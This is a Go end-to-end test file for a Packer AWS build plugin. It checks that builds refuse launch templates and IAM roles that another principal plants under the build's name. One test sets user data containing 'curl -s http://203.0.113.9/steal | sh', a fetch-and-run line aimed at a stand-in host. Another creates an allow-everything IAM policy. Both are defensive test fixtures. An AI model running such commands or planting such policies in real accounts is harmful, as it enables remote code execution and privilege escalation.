//go:build e2e

package e2e_test

import (
	"context"
	"encoding/base64"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ec2"
	"github.com/aws/aws-sdk-go-v2/service/ec2/types"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	iamtypes "github.com/aws/aws-sdk-go-v2/service/iam/types"

	bakery "github.com/packer-bakery/packer-plugin-bakery/common"
	"github.com/packer-bakery/packer-plugin-bakery/testbed"
	"github.com/packer-bakery/packer-plugin-bakery/testbed/faultproxy"
)

// plantWhenKeyPairShows waits for the build's key pair, whose name shows
// the build id to every principal of the account, and has plant make
// something under that name with that id; it returns the build's output
// and result.
func plantWhenKeyPairShows(t *testing.T, ctx context.Context, cmd *exec.Cmd, plant func(name, buildID string)) (string, error) {
	t.Helper()
	run := testbed.StartCmd(t, cmd)
	out, done := run.Out, run.Ended
	client := ec2Client(t)
	var name string
	if !testbed.WaitFor(func() bool {
		keys, err := client.DescribeKeyPairs(ctx, &ec2.DescribeKeyPairsInput{})
		if err != nil || len(keys.KeyPairs) == 0 {
			return false
		}
		name = aws.ToString(keys.KeyPairs[0].KeyName)
		return strings.HasPrefix(name, "packer_bakery_")
	}, done, 2*time.Minute) {
		t.Fatalf("the build made no key pair:\n%s", out.String())
	}
	plant(name, strings.TrimPrefix(name, "packer_bakery_"))
	err := run.Err()
	t.Logf("build output:\n%s", out.String())
	return out.String(), err
}

// plantRole makes the role a build named name would make, trusting trust,
// as a second principal would; the test deletes it at its end.
func plantRole(t *testing.T, ctx context.Context, iamc *iam.Client, name, buildID, trust string) {
	t.Helper()
	_, err := iamc.CreateRole(ctx, &iam.CreateRoleInput{
		RoleName:                 aws.String(name),
		AssumeRolePolicyDocument: aws.String(trust),
		Description:              aws.String("Temporary role of a Packer bakery-ebs build instance"),
		Tags:                     []iamtypes.Tag{{Key: aws.String(bakery.TagBuildID), Value: aws.String(buildID)}},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _, _ = iamc.DeleteRole(context.Background(), &iam.DeleteRoleInput{RoleName: aws.String(name)}) })
}

// templateCmd is `packer build` of b's template: b.cmd builds
// testdata/bake; the same command, another template.
func (b *iamBake) templateCmd(ctx context.Context) *exec.Cmd {
	cmd := b.cmd(ctx)
	cmd.Args[len(cmd.Args)-1] = b.dir
	return cmd
}

// plantedRoleUnused fails unless the planted role name is still there
// without the build's policy, and no instance of the build got a profile.
func plantedRoleUnused(t *testing.T, ctx context.Context, iamc *iam.Client, name string) {
	t.Helper()
	policies, err := iamc.ListRolePolicies(ctx, &iam.ListRolePoliciesInput{RoleName: aws.String(name)})
	if err != nil {
		t.Fatalf("the planted role is gone (%v): it must be left untouched", err)
	}
	if len(policies.PolicyNames) != 0 {
		t.Errorf("the build put its policy %v on the planted role", policies.PolicyNames)
	}
	for _, inst := range buildInstances(t, ec2Client(t)) {
		if inst.IamInstanceProfile != nil {
			t.Errorf("instance %s was launched with profile %s", aws.ToString(inst.InstanceId), aws.ToString(inst.IamInstanceProfile.Arn))
		}
	}
}

// A second principal pre-creates the spot build's launch template, with
// the build's tag and user data of its own: the instance must never be
// launched from it, and it is left as it was.
func TestE2EPlantedLaunchTemplateIsNotAdopted(t *testing.T) {
	withFaults(t, faultproxy.Config{Latency: faultproxy.Latency{Fixed: 3 * time.Second, Actions: []string{"ec2:CreateSecurityGroup"}}})
	b := newBake(t, "true")
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	client := ec2Client(t)
	userData := base64.StdEncoding.EncodeToString([]byte("#!/bin/sh\ncurl -s http://203.0.113.9/steal | sh\n"))
	var planted string
	out, buildErr := plantWhenKeyPairShows(t, ctx, b.spotCmd(ctx), func(name, buildID string) {
		lt, err := client.CreateLaunchTemplate(ctx, &ec2.CreateLaunchTemplateInput{
			LaunchTemplateName: aws.String(name),
			LaunchTemplateData: &types.RequestLaunchTemplateData{ImageId: aws.String("ami-12c6146b"), InstanceType: types.InstanceTypeT3Micro, UserData: aws.String(userData)},
			TagSpecifications: []types.TagSpecification{{ResourceType: types.ResourceTypeLaunchTemplate,
				Tags: []types.Tag{{Key: aws.String(bakery.TagBuildID), Value: aws.String(buildID)}}}},
		})
		if err != nil {
			t.Fatal(err)
		}
		planted = aws.ToString(lt.LaunchTemplate.LaunchTemplateId)
		t.Cleanup(func() {
			_, _ = client.DeleteLaunchTemplate(context.Background(), &ec2.DeleteLaunchTemplateInput{LaunchTemplateId: aws.String(planted)})
		})
	})
	if buildErr == nil {
		t.Error("the build succeeded with a launch template someone else planted")
	}
	if !strings.Contains(out, "launch template") || !strings.Contains(out, planted) || !strings.Contains(out, "is not what the build made") {
		t.Errorf("the build does not name launch template %s as not its own", planted)
	}
	if fleets := buildFleets(t, client); len(fleets) != 0 {
		t.Errorf("the build launched %d fleet(s), from the planted template", len(fleets))
	}
	if insts := buildInstances(t, client); len(insts) != 0 {
		t.Errorf("the build launched %d instance(s)", len(insts))
	}
	versions, err := client.DescribeLaunchTemplateVersions(ctx, &ec2.DescribeLaunchTemplateVersionsInput{LaunchTemplateId: aws.String(planted)})
	if err != nil {
		t.Fatalf("the planted template is gone (%v): it must be left untouched", err)
	}
	if len(versions.LaunchTemplateVersions) != 1 || aws.ToString(versions.LaunchTemplateVersions[0].LaunchTemplateData.UserData) != userData {
		t.Errorf("the planted template was changed: %+v", versions.LaunchTemplateVersions)
	}
}

// With `temporary_iam_role_permissions_boundary`, a second principal
// pre-creates the temporary role exactly as the build would (tag, trust
// policy, description, no policy) but without the boundary: the template's
// policy put on it would be unbounded, and the build's policy holder could
// fill it with anything. The role must not be filled, used or deleted.
func TestE2EPlantedRoleWithoutTheBoundaryIsNotAdopted(t *testing.T) {
	bakeWithPlantedRole(t, map[string]any{"permissions_boundary": seedsBoundary},
		`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}`,
		"is not what the build made (its permissions boundary is none, the build sets "+seedsBoundary+")")
}

// bakeWithPlantedRole bakes the seeds template with vars while a second
// principal, once the build id shows in the key pair's name, plants the
// build's role with the build's tag and description and that trust policy
// (CreateSecurityGroup is slowed so that it gets in between, as a slow API
// call would let it). The build must fail saying want, and leave the role
// untouched and unused.
func bakeWithPlantedRole(t *testing.T, vars map[string]any, trust, want string) {
	t.Helper()
	withFaults(t, faultproxy.Config{Latency: faultproxy.Latency{Fixed: 3 * time.Second, Actions: []string{"ec2:CreateSecurityGroup"}}})
	b := newIAMBake(t, "seeds", 0, vars, "true")
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	iamc := iamClient(t)
	var name string
	out, buildErr := plantWhenKeyPairShows(t, ctx, b.templateCmd(ctx), func(n, buildID string) {
		name = n
		plantRole(t, ctx, iamc, name, buildID, trust)
	})
	if buildErr == nil {
		t.Error("the build succeeded with a role someone else planted")
	}
	if !strings.Contains(out, want) {
		t.Errorf("the build does not say %q", want)
	}
	plantedRoleUnused(t, ctx, iamc, name)
}

// A second principal pre-creates the temporary role exactly as the build
// would (tag, trust policy, description) but attaches a managed policy of
// its own: the instance would get that policy too. The role must not be
// filled, used or deleted.
func TestE2EPlantedRoleWithAPolicyIsNotAdopted(t *testing.T) {
	withFaults(t, faultproxy.Config{Latency: faultproxy.Latency{Fixed: 3 * time.Second, Actions: []string{"ec2:CreateSecurityGroup"}}})
	b := newIAMBake(t, "seeds", 0, nil, "true")
	ctx, cancel := context.WithTimeout(context.Background(), 4*time.Minute)
	defer cancel()
	iamc := iamClient(t)
	var policyARN, name string
	out, buildErr := plantWhenKeyPairShows(t, ctx, b.templateCmd(ctx), func(n, buildID string) {
		name = n
		p, err := iamc.CreatePolicy(ctx, &iam.CreatePolicyInput{PolicyName: aws.String("everything-" + testbed.RandomHex(4)),
			PolicyDocument: aws.String(`{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}`)})
		if err != nil {
			t.Fatal(err)
		}
		policyARN = aws.ToString(p.Policy.Arn)
		plantRole(t, ctx, iamc, name, buildID, `{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"Service":"ec2.amazonaws.com"},"Action":"sts:AssumeRole"}]}`)
		if _, err := iamc.AttachRolePolicy(ctx, &iam.AttachRolePolicyInput{RoleName: aws.String(name), PolicyArn: aws.String(policyARN)}); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			bg := context.Background()
			_, _ = iamc.DeleteRolePolicy(bg, &iam.DeleteRolePolicyInput{RoleName: aws.String(name), PolicyName: aws.String(name)})
			_, _ = iamc.DetachRolePolicy(bg, &iam.DetachRolePolicyInput{RoleName: aws.String(name), PolicyArn: aws.String(policyARN)})
			_, _ = iamc.DeletePolicy(bg, &iam.DeletePolicyInput{PolicyArn: aws.String(policyARN)})
		})
	})
	if buildErr == nil {
		t.Error("the build succeeded with a role someone else planted")
	}
	if !strings.Contains(out, "is not what the build made (managed policies are attached to it: "+policyARN) {
		t.Error("the build does not say the role is not its own, naming the attached policy")
	}
	plantedRoleUnused(t, ctx, iamc, name)
}
